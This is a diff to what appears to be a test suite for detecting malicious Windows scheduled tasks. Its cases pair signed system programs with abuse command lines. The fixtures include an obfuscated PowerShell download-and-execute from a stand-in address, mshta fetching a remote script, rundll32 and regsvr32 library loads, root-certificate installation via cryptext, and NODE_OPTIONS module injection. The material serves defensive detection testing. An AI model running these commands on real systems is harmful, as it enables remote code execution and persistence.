@@ -27,6 +27,7 @@ task('encoded-powershell-of-a-task', 'PowerShell takes a dash of Unicode for one
 task('file-of-powershell', 'A script of nobody\'s, run by a signed program.', 'a.ps1', 'powershell.exe', r'-ep bypass -File C:\ProgramData\x\a.ps1', programs=[POWERSHELL],
      files=[(r'ProgramData\x\a.ps1', '&("ie"+"x") (iwr http://203.0.113.7/a)')])
 task('registration-of-a-task', 'regsvr32.exe calls DllRegisterServer of any library.', 'x.dll', 'regsvr32.exe', f'/s {LIBRARY}', programs=['regsvr32.exe'], payload=LIBRARY)
+task('library-behind-a-switch-of-rundll32', 'rundll32.exe takes /d before the library.', 'x.dll', 'rundll32.exe', f'/d {LIBRARY},Go', programs=['rundll32.exe'], payload=LIBRARY)
 task('library-of-a-task', 'rundll32.exe calls a function of any library.', 'x.dll', 'rundll32.exe', f'{LIBRARY},Go', programs=['rundll32.exe'], payload=LIBRARY)
 task('shell-of-a-task', 'cmd.exe runs both commands.', 'x.exe', 'cmd.exe', f'/c echo & {EVIL}', programs=['cmd.exe'], payload=EVIL)
 task('page-of-a-task', 'mshta.exe runs the scripts of a page.', 'mshta', 'mshta.exe', 'http://203.0.113.7/x.hta', programs=['mshta.exe'])
@@ -47,7 +48,6 @@ for name, why, command in (
         ('driver-by-printui', 'printui.dll installs the driver of a printer.', r'rundll32.exe printui.dll,PrintUIEntry /ia /m "x" /f C:\ProgramData\x\x.inf'),
         ('authority-by-cryptext', 'cryptext.dll adds a certificate to the roots of the machine.', 'rundll32.exe cryptext.dll,CryptExtAddCERMachineOnlyAndHwnd MIIBIjANBgkqhkiG9w0BAQE'),
         ('screen-saver-by-desk-cpl', 'desk.cpl starts a screen saver.', r'rundll32.exe desk.cpl,InstallScreenSaver C:\ProgramData\x\x.scr'),
-        ('library-behind-a-switch-of-rundll32', 'rundll32.exe takes /d before the library.', rf'rundll32.exe /d {LIBRARY},Go'),
         ('library-by-ssh-keygen', 'ssh-keygen.exe -D loads a library.', r'ssh-keygen.exe -D C:\ProgramData\x\x.txt'),
         ('join-by-djoin', 'djoin.exe joins the machine to a domain by a file.', r'djoin.exe /requestODJ /loadfile C:\ProgramData\x\x.txt /windowspath %SystemRoot% /localos'),
         ('package-by-iexpress', 'iexpress.exe runs what its directive says.', r'iexpress.exe /n /q C:\ProgramData\x\x.sed'),
@@ -59,7 +59,7 @@ for name, why, command in (
     task(name, why, 'Update', program, words, programs=[program])
 
 
-@change(CHECK, 'Update')
+@change(CHECK, 'workfolders')
 def control_by_the_folder_of_a_task(d):
     """WorkFolders.exe starts the control.exe of the folder that it runs in."""
     d.windows('WorkFolders.exe')
@@ -67,7 +67,7 @@ def control_by_the_folder_of_a_task(d):
     d.task(r'\Update', 'WorkFolders.exe', folder=r'C:\ProgramData\x')
 
 
-@change(CHECK, 'Update')
+@change(CHECK, 'msbuild')
 def project_by_the_folder_of_a_task(d):
     """MSBuild.exe without a file builds the project of the folder that it runs in."""
     build = d.honest(r'C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe')
@@ -75,7 +75,7 @@ def project_by_the_folder_of_a_task(d):
     d.task(r'\Update', build, '/nologo', folder=r'C:\ProgramData\x')
 
 
-@change(CHECK, 'Update')
+@change(CHECK, 'NODE_OPTIONS')
 def variable_of_node_in_a_line(d):
     """A line that gives NODE_OPTIONS a value loads what that names."""
     d.windows('cmd.exe')
@@ -83,7 +83,7 @@ def variable_of_node_in_a_line(d):
     d.task(r'\Update', 'cmd.exe', rf'/c set NODE_OPTIONS=--require=C:/ProgramData/x/x.js&& "{node}"')
 
 
-@change(CHECK, 'Update')
+@change(CHECK, '--require')
 def module_in_one_word_of_node(d):
     """node.exe takes the module that it loads first in one word with the option."""
     d.task(r'\Update', d.honest(r'C:\Program Files\nodejs\node.exe'), '--require=C:/ProgramData/x/x.js')
